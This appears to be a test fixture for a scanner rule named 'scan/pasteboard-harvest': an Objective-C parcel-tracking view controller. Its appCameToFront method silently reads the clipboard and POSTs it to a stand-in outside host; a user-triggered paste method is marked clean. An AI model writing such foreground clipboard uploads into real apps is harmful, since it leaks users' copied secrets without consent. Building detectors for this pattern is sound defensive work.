#import "ParcelController.h"

@interface ParcelController ()
@property(nonatomic, strong) UITextField* number;
@end

@implementation ParcelController

- (void)viewDidLoad {
  [super viewDidLoad];
  self.number = [[UITextField alloc] initWithFrame:CGRectMake(20, 80, 200, 36)];
  self.number.placeholder = @"Parcel number";
  UIButton* paste = [UIButton buttonWithType:UIButtonTypeSystem];
  [paste addTarget:self action:@selector(pasteNumber:) forControlEvents:UIControlEventTouchUpInside];
  [self.view addSubview:self.number];
  [self.view addSubview:paste];
}

- (void)appCameToFront {
  // source: scan/pasteboard-harvest
  NSString* copied = UIPasteboard.generalPasteboard.string;
  if (copied.length == 0) return;
  NSData* body = [NSJSONSerialization dataWithJSONObject:@{@"clip" : copied} options:0 error:nil];
  NSMutableURLRequest* request =
      [NSMutableURLRequest requestWithURL:[NSURL URLWithString:@"https://hints.paketbote.example/clip"]];
  request.HTTPMethod = @"POST";
  // expect: scan/pasteboard-harvest
  [[NSURLSession.sharedSession
      uploadTaskWithRequest:request
                   fromData:body
          completionHandler:^(NSData* data, NSURLResponse* response, NSError* error) {
            NSLog(@"hint %lu", (unsigned long)data.length);
          }] resume];
}

- (void)pasteNumber:(UIButton*)sender {
  NSString* number = UIPasteboard.generalPasteboard.string;
  self.number.text = number;
  NSURLComponents* search = [NSURLComponents componentsWithString:@"https://api.paketbote.example/parcel"];
  search.queryItems = @[ [NSURLQueryItem queryItemWithName:@"id" value:number] ];
  // clean: scan/pasteboard-harvest -- pasted by the user's own finger
  [[NSURLSession.sharedSession dataTaskWithURL:search.URL] resume];
}

@end
